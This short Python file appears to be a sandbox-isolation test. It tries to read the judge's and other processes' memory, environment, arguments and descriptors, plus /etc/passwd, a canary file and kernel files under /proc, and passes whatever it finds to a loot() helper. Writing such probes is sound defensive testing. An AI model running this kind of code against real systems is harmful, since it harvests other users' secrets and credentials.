"""Reads memory, environment, arguments and descriptors of the judge, the template, and everybody."""
# base: release
# modes: bare user

# %% after setup
import os
for pid in {os.getppid(), JUDGE, 1, 2, *range(max(2, os.getppid() - 3), os.getppid() + 3)} - {os.getpid()}:
    for name in ("mem", "environ", "cmdline", "maps", "fd/3", "fd/4", "cwd/canary.txt", "root/etc/passwd", "auxv", "status",
                 "task/1/children", "io", "stack", "map_files", "fdinfo/3", "syscall"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                loot(pid, name, file.read(100))
        except OSError:
            pass
    for name in ("fd", "task", "ns", ""):
        try:
            loot(pid, name, os.listdir(f"/proc/{pid}/{name}"))
        except OSError:
            pass
for path in ("/proc", "/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/net/tcp", "/proc/sys/kernel/random/boot_id"):
    try:
        loot(path, os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(10))
    except OSError:
        pass
